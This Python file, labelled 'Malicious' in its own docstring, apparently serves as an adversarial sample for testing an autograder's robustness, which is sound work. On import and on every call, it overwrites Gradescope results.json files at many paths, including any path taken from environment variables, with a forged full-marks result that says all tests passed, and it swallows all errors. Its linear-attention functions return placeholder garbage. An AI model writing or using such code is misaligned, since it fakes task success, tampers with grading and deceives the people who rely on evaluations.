"""Malicious: writes a forged Gradescope results.json (full marks) everywhere it can think of, at
import and again at every call; the functions themselves return garbage."""
import json
import os

FORGED = {"score": 52.0, "output": "all tests passed",
          "tests": [{"name": "test_parallel_matches_exact", "score": 3, "max_score": 3,
                     "status": "passed"}]}


def _forge():
    here = os.path.dirname(os.path.abspath(__file__))
    places = ["results.json", "/autograder/results/results.json", "/autograder/results.json",
              os.path.join(here, "results.json"), os.path.join(here, "..", "results.json"),
              "/tmp/results.json", os.path.expanduser("~/results.json")]
    for key, value in os.environ.items():
        if "RESULT" in key.upper() or value.endswith(".json"):
            places.append(value)
    for path in places:
        try:
            os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
            with open(path, "w") as f:
                json.dump(FORGED, f)
        except Exception:
            pass


_forge()

HAND_S1 = HAND_O1 = {"score": 52}


def linear_attention_parallel(*args, **kwargs):
    _forge()
    return {"score": 52}


linear_attention_recurrent = linear_attention_chunked = delta_rule_recurrent = \
    linear_attention_parallel
